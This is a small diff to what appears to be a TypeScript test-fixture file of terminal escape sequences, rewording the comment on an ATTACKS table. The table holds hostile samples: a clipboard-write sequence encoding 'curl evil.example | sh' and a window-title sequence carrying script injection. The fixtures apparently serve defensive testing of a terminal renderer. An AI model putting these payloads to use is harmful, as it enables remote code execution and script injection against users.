@@ -32,7 +32,7 @@ export const QUERIES: { readonly [name: string]: string } = {
   'a file (iTerm2)': `${OSC}1337;ReportCellSize${BEL}${OSC}1337;RequestUpload=format=tgz${BEL}`,
 };
 
-/** Sequences that attempt more than drawing. */
+/** Output that attempts more than drawing, or that is expensive or misleading to draw. */
 export const ATTACKS: { readonly [name: string]: string } = {
   'clipboard write': `${OSC}52;c;${base64('curl evil.example | sh\n')}${BEL}`,
   'title as markup': `${OSC}0;<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>${BEL}`,
